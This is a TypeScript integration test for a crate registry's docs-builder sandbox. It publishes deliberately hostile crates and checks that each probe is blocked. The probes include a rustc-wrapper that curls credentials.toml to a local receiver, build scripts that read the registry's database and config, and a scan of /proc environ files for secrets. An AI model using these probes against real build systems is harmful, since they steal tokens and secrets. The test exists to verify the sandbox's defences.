// The docs builder's sandbox end to end (docs/rustdoc.md, "Isolation of the builder"; issue 15's
// audit): the real cargo publishes crates whose code tries what the audit's probes did, to a real
// `cratekeeper serve` with the builder on, and the test checks what reached it:
//  - a packaged `.cargo/config.toml` naming a rustc-wrapper that posts CARGO_HOME's credentials (the
//    build's read token) to a receiver of the test's: the receiver hears nothing, the build is done;
//  - a build script that writes into the registry's data folder and reads its SQLite file and its
//    configuration: nothing is written, every read fails;
//  - a build script that looks for a secret the server's environment holds, in its own environment
//    and in every /proc/<pid>/environ it can read: it finds none.
// What a build script found comes back in the build's log (`cargo:warning=` lines).

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { makeTempDir } from '@cratekeeper/test-support/temp-dir';
import { indexPathOf } from '../../src/domain/crate-name.js';
import { CargoSandbox, type CargoResult } from '../support/cargo.js';
import { eventually } from '../support/eventually.js';
import { startRegistry } from '../support/registry-server.js';

function ok(result: CargoResult, what: string): CargoResult {
  assert.equal(result.code, 0, `${what} failed:\n${result.stderr}\n${result.stdout}`);
  return result;
}

const SECRET = `ckt_sandbox_probe_${randomBytes(12).toString('hex')}`;

/** Writes into the data folder, reads the SQLite file and the configuration, and says how each went. */
const filesBuildScript = (dataDir: string, configFile: string) => `
fn main() {
    let wrote = std::fs::write(${JSON.stringify(join(dataDir, 'WRITTEN-BY-BUILD-RS'))}, b"x");
    let db = std::fs::read(${JSON.stringify(join(dataDir, 'cratekeeper.sqlite3'))});
    let config = std::fs::read_to_string(${JSON.stringify(configFile)});
    let listing = std::fs::read_dir(${JSON.stringify(dataDir)})
        .map(|d| d.filter_map(|e| e.ok()).map(|e| e.file_name().to_string_lossy().into_owned()).collect::<Vec<_>>());
    println!("cargo:warning=PROBE write={}", if wrote.is_ok() { "ok" } else { "refused" });
    println!("cargo:warning=PROBE sqlite={}", match db { Ok(b) => format!("read {} bytes", b.len()), Err(e) => format!("error {:?}", e.kind()) });
    println!("cargo:warning=PROBE config={}", match config { Ok(t) => format!("read {:?}", t), Err(e) => format!("error {:?}", e.kind()) });
    println!("cargo:warning=PROBE listing={:?}", listing.map_err(|e| e.kind()));
}
`;

/** Looks for the server's secret in its own environment and in every process's it can read. */
const envBuildScript = (secret: string) => `
fn main() {
    let own: Vec<String> = std::env::vars().filter(|(_, v)| v.contains("${secret}")).map(|(k, _)| k).collect();
    let mut procs = Vec::new();
    let mut read = 0;
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        if let Ok(bytes) = std::fs::read(entry.path().join("environ")) {
            read += 1;
            if String::from_utf8_lossy(&bytes).contains("${secret}") { procs.push(entry.file_name().to_string_lossy().into_owned()); }
        }
    }
    println!("cargo:warning=PROBE own-env-with-secret={:?}", own);
    println!("cargo:warning=PROBE procs-read={} procs-with-secret={:?}", read, procs);
}
`;

const probeLines = (log: string) =>
  Object.fromEntries([...log.matchAll(/PROBE (.*)$/gm)].flatMap((m) => m[1]!.split(/ (?=[a-z-]+=)/).map((kv) => kv.split(/=(.*)/s))));

/** A registry with the builder on (and `env` added to the server's environment), cargo, and a receiver. */
async function startHarness(env: Record<string, string>) {
  const heard: string[] = [];
  const receiver = createServer((request, response) => {
    let body = '';
    request.on('data', (c: Buffer) => (body += c.toString()));
    request.on('end', () => {
      heard.push(`${request.method} ${request.url} ${body}`);
      response.end('thanks');
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  const receiverPort = (receiver.address() as AddressInfo).port;
  const configFile = join(makeTempDir('cratekeeper-sandbox-config-'), 'cratekeeper.toml');
  writeFileSync(configFile, `# ${SECRET}\n[docs]\nbuild = true\n`);
  const server = await startRegistry({ args: ['--config', configFile], env });
  const cargo = new CargoSandbox();
  cargo.configure(`${server.url}/index/`);
  ok(await cargo.run(['login', '--registry', 'ck'], { input: `${server.adminToken}\n` }), 'cargo login');
  const api = (path: string) => fetch(`${server.url}${path}`, { headers: { authorization: server.adminToken! } });

  return {
    server,
    cargo,
    configFile,
    heardAt: (path: string) => heard.filter((h) => h.split(' ')[1] === path),

    /** The newest build of `crate` once it ended. */
    finishedBuild: (crate: string): Promise<{ status: string; log: string }> =>
      eventually(
        async () => {
          const answer = (await (await api(`/api/v1/crates/${crate}/docs/builds`)).json()) as { builds: { status: string; log: string }[] };
          const build = answer.builds[0];
          assert.ok(build && (build.status === 'done' || build.status === 'failed'), `the build of ${crate} has not ended`);
          return build;
        },
        300_000,
        250,
      ),

    /** Publishes; `CRATEKEEPER_TEST_PUBLISHING` keeps a package's wrapper quiet while the test's own cargo runs it. */
    async publish(dir: string): Promise<void> {
      const env = { CRATEKEEPER_TEST_PUBLISHING: '1' };
      ok(await cargo.run(['publish', '--registry', 'ck', '--allow-dirty', '--no-verify'], { cwd: dir, env }), `publish ${dir}`);
    },

    /**
     * A package whose own `.cargo/config.toml` names `wrap.sh` as rustc-wrapper: cargo runs it for
     * every rustc call (`cargo fetch` asks rustc for its version through it), and it posts `body` (a
     * shell expression) to the receiver at `path`, unless CRATEKEEPER_TEST_PUBLISHING is set; it
     * always runs rustc as asked.
     */
    packageWithWrapper(name: string, path: string, body: string, extra: { packageLines?: string[] } = {}): string {
      const dir = cargo.createPackage({
        name,
        version: '0.1.0',
        packageLines: ['include = ["src/**", "build.rs", "wrap.sh", ".cargo/config.toml", "Cargo.toml"]', ...(extra.packageLines ?? [])],
      });
      mkdirSync(join(dir, '.cargo'));
      writeFileSync(join(dir, '.cargo', 'config.toml'), '[build]\nrustc-wrapper = "./wrap.sh"\n');
      writeFileSync(
        join(dir, 'wrap.sh'),
        `#!/bin/sh\n[ -n "$CRATEKEEPER_TEST_PUBLISHING" ] || curl -s -m 5 --data-binary ${body} http://127.0.0.1:${receiverPort}${path} >/dev/null 2>&1\nexec "$@"\n`,
      );
      chmodSync(join(dir, 'wrap.sh'), 0o755);
      return dir;
    },

    async stop(): Promise<void> {
      receiver.close();
      assert.equal(await server.stop(), 0);
    },
  };
}

describe('the docs builder sandbox', () => {
  let h: Awaited<ReturnType<typeof startHarness>>;
  before(async () => {
    h = await startHarness({ CRATEKEEPER_SANDBOX_PROBE: SECRET, AWS_SECRET_ACCESS_KEY: SECRET, CARGO_REGISTRY_TOKEN: SECRET });
  });
  after(() => h?.stop());

  it("ignores a package's own .cargo/config.toml: its rustc-wrapper never runs and never sees the build's token", async () => {
    const dir = h.packageWithWrapper('docs-wrapper', '/from-wrapper', '@"$CARGO_HOME/credentials.toml"');
    await h.publish(dir);
    const build = await h.finishedBuild('docs-wrapper');
    assert.deepEqual(h.heardAt('/from-wrapper'), [], 'the wrapper posted to the receiver');
    assert.equal(build.status, 'done', build.log);
    assert.match(build.log, /removed docs-wrapper-0\.1\.0\/\.cargo/);
  });

  it("keeps a build script out of the registry's data folder and configuration", async () => {
    assert.ok(existsSync(join(h.server.dataDir, 'cratekeeper.sqlite3')), 'the SQLite file the script tries to read exists');
    const dir = h.cargo.createPackage({ name: 'docs-files', version: '0.1.0', packageLines: ['build = "build.rs"'] });
    writeFileSync(join(dir, 'build.rs'), filesBuildScript(h.server.dataDir, h.configFile));
    await h.publish(dir);
    const build = await h.finishedBuild('docs-files');
    assert.equal(build.status, 'done', build.log);
    const probe = probeLines(build.log);
    assert.equal(probe.write, 'refused', build.log);
    assert.match(probe.sqlite!, /^error /, build.log);
    assert.match(probe.config!, /^(error |read "")/, build.log);
    assert.ok(!build.log.includes(SECRET), 'the configuration reached the build');
    assert.ok(!readdirSync(h.server.dataDir).includes('WRITTEN-BY-BUILD-RS'), 'the build wrote into the data folder');
  });

  it('gives the build’s children none of the server’s environment, and no other process to read it from', async () => {
    // Both kinds of the crate's code look: a rustc-wrapper of its own config (which would run
    // beside cargo fetch, outside any namespace) reports to the receiver, a build script in the log.
    const dir = h.packageWithWrapper(
      'docs-env',
      '/from-env-wrapper',
      `"vars=$(env | grep -F ${SECRET} | cut -d= -f1 | tr '\\n' ' ') procs=$(grep -l -F ${SECRET} /proc/[0-9]*/environ 2>/dev/null | tr '\\n' ' ')"`,
      { packageLines: ['build = "build.rs"'] },
    );
    writeFileSync(join(dir, 'build.rs'), envBuildScript(SECRET));
    await h.publish(dir);
    const build = await h.finishedBuild('docs-env');
    for (const report of h.heardAt('/from-env-wrapper')) assert.match(report, /vars= procs= ?$/, 'the wrapper found the secret');
    assert.equal(build.status, 'done', build.log);
    const probe = probeLines(build.log);
    assert.equal(probe['own-env-with-secret'], '[]', build.log);
    assert.ok(Number(probe['procs-read']) > 0, `the script read no /proc environ at all:\n${build.log}`);
    assert.equal(probe['procs-with-secret'], '[]', build.log);
  });
});

describe('the docs builder where the sandbox does not work', () => {
  // An `unshare` that fails first on the server's PATH, as on a host without user namespaces.
  const withoutUnshare = () => {
    const shims = makeTempDir('cratekeeper-no-unshare-');
    writeFileSync(join(shims, 'unshare'), '#!/bin/sh\necho "unshare: unshare failed: Operation not permitted" >&2\nexit 1\n', {
      mode: 0o755,
    });
    return { PATH: `${shims}:${process.env.PATH}` };
  };

  it('fails every build by default, saying why, and runs nothing of the crate', async () => {
    const h = await startHarness(withoutUnshare());
    try {
      const dir = h.packageWithWrapper('docs-refused', '/from-refused-wrapper', '@"$CARGO_HOME/credentials.toml"');
      await h.publish(dir);
      const build = await h.finishedBuild('docs-refused');
      assert.equal(build.status, 'failed', build.log);
      assert.match(build.log, /the build sandbox does not work on this host .* docs\.allow_unsandboxed is off: nothing of the crate ran/);
      assert.deepEqual(h.heardAt('/from-refused-wrapper'), [], 'the wrapper ran');
      assert.match(h.server.output(), /the sandbox .* does not work here; every rustdoc build fails until it does/);
    } finally {
      await h.stop();
    }
  });

  it("with docs.allow_unsandboxed, builds unsandboxed, says so, and still ignores the package's .cargo/config.toml", async () => {
    const h = await startHarness({ ...withoutUnshare(), CRATEKEEPER_DOCS__ALLOW_UNSANDBOXED: 'true' });
    try {
      const dir = h.packageWithWrapper('docs-unboxed', '/from-unboxed-wrapper', '@"$CARGO_HOME/credentials.toml"');
      await h.publish(dir);
      const build = await h.finishedBuild('docs-unboxed');
      assert.deepEqual(h.heardAt('/from-unboxed-wrapper'), [], 'the wrapper posted to the receiver');
      assert.equal(build.status, 'done', build.log);
      assert.match(build.log, /no sandbox here/);
      assert.match(build.log, /removed docs-unboxed-0\.1\.0\/\.cargo/);
      assert.match(h.server.output(), /the sandbox .* does not work here; rustdoc builds run unsandboxed/);
    } finally {
      await h.stop();
    }
  });
});

describe('the docs builder limits', () => {
  let h: Awaited<ReturnType<typeof startHarness>>;
  before(async () => {
    h = await startHarness({ CRATEKEEPER_DOCS__TIMEOUT: '10s', CRATEKEEPER_DOCS__MEMORY_LIMIT: '3GiB' });
  });
  after(() => h?.stop());

  /** A package whose build script runs `main` (Rust statements). */
  const packageWithBuildScript = (name: string, main: string) => {
    const dir = h.cargo.createPackage({ name, version: '0.1.0', packageLines: ['build = "build.rs"'] });
    writeFileSync(join(dir, 'build.rs'), `fn main() {\n${main}\n}\n`);
    return dir;
  };

  /** The version is published whatever its docs build did: in the index, and its .crate downloads. */
  const assertStillPublished = async (name: string) => {
    const file = await fetch(`${h.server.url}/index/${indexPathOf(name)}`, { headers: { authorization: h.server.adminToken! } });
    assert.equal(file.status, 200);
    assert.match(await file.text(), /"vers":"0\.1\.0"/);
    const crate = await fetch(`${h.server.url}/api/v1/crates/${name}/0.1.0/download`, { headers: { authorization: h.server.adminToken! } });
    assert.equal(crate.status, 200);
  };

  it('stops a build past docs.timeout, records it failed with its log, and leaves the version published', async () => {
    await h.publish(packageWithBuildScript('docs-sleepy', '    std::thread::sleep(std::time::Duration::from_secs(600));'));
    const build = await h.finishedBuild('docs-sleepy');
    assert.equal(build.status, 'failed', build.log);
    assert.match(build.log, /was stopped: the build took longer than 10 s \(\[docs\] timeout\)/);
    await assertStillPublished('docs-sleepy');
  });

  it('refuses a build script more memory than docs.memory_limit, records the build failed, and leaves the version published', async () => {
    // 5 GiB touched page by page, under a 3 GiB address-space limit.
    await h.publish(
      packageWithBuildScript(
        'docs-greedy',
        '    let mut v: Vec<u8> = Vec::with_capacity(5 << 30);\n    v.resize(5 << 30, 1);\n    println!("{}", v[v.len() - 1]);',
      ),
    );
    const build = await h.finishedBuild('docs-greedy');
    assert.equal(build.status, 'failed', build.log);
    assert.match(build.log, /memory allocation of \d+ bytes failed|capacity overflow|out of memory/i);
    await assertStillPublished('docs-greedy');
  });
});
